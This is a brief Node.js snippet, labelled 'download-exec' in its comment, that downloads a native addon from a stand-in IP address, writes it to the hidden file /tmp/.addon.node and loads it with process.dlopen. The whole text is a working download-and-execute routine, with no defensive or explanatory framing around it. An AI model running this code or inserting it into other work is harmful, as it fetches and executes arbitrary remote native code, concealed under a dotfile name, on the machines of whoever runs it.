// download-exec: a native addon downloaded to /tmp and loaded with process.dlopen
const fs = require('fs');
fetch('http://203.0.113.7/addon.node')
  .then((r) => r.arrayBuffer())
  .then((buf) => {
    fs.writeFileSync('/tmp/.addon.node', Buffer.from(buf));
    const m = { exports: {} };
    process.dlopen(m, '/tmp/.addon.node');
  });
